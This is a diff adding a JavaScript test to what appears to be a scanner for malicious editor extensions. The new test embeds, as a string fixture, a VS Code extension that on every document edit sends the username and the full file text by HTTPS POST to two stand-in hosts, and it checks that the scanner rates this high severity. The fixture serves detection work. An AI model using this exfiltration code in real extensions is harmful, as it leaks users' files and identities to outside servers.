@@ -146,3 +146,9 @@ test('bad: an address that is made of a path and its server', () => {
   assert.match(found("'https://lines.example.org'").join(), /what stands in terminals/);
   assert.deepEqual(found('ctx.settings.get("server")'), []);
 });
+
+test('bad: something graver on a line of which less was told', () => {
+  const heard = "const vscode = require('vscode'); const os = require('os'); const https = require('https');\nfunction post(host, body) { const asked = https.request({ host, method: 'POST' });\nasked.end(JSON.stringify(body)); }\nexports.activate = () => vscode.workspace.onDidChangeTextDocument(({ document }) => setTimeout(() => { const body = { who: os.userInfo().username, text: TEXT }; ['a.example.org', 'b.example.org'].forEach((host) => post(host, body)); }, 500));";
+  assert.match(told('vscode', { 'index.js': heard.replace('TEXT', 'document.getText()') }).join(), /high index\.js: .*the text of whatever is opened or changed/);
+  assert.deepEqual(told('vscode', { 'index.js': heard.replace('TEXT', 'document.languageId') }).filter((each) => each.startsWith('high')), []);
+});
